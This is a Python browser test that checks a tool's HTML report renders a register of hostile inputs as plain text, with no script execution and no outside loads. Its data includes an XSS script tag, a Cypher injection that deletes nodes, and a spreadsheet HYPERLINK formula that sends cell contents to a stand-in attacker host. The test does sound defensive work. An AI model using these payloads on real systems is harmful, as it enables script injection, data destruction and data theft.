"""The HTML report of a hostile register (``tests/support/payloads.py``) in headless Chromium: it
runs nothing, asks the network for nothing and shows every payload as text. (What the other
formats make of the same register: ``tests/integration/test_hostile_outputs.py``.)
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support.browser import Browser, require_chromium
from tests.support.cli import cli, no_neo4j_env
from tests.support.payloads import Written, write_register


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Written:
    return write_register(tmp_path_factory.mktemp("outputs") / "hostile")


@pytest.mark.browser
@pytest.mark.slow
def test_the_report_of_the_hostile_register_runs_nothing(hostile: Written, tmp_path: Path) -> None:
    require_chromium()
    out = tmp_path / "report.html"
    run = cli("report", str(hostile.folder), "-o", str(out), "--engine", "embedded",
              env=no_neo4j_env())  # fmt: skip
    assert run.returncode == 0, run.stderr
    with Browser() as browser, browser.open(out) as (page, record):
        page.wait_for_timeout(500)
        assert page.evaluate("() => typeof window.__pwned") == "undefined"
        assert page.evaluate(
            "() => document.querySelectorAll('img, iframe, object, embed, a[href], svg[onload]')"
            ".length"
        ) == 0  # fmt: skip
        assert page.evaluate("() => [...document.scripts].filter(s => s.src).length") == 0
        text = page.inner_text("#analyses")
        for payload in ("<script>window.__pwned=1</script>", "'}) DETACH DELETE n //",
                        '=HYPERLINK("http://evil.example/?x="&A1,"click")'):  # fmt: skip
            assert payload in text
        assert record.problems() == []
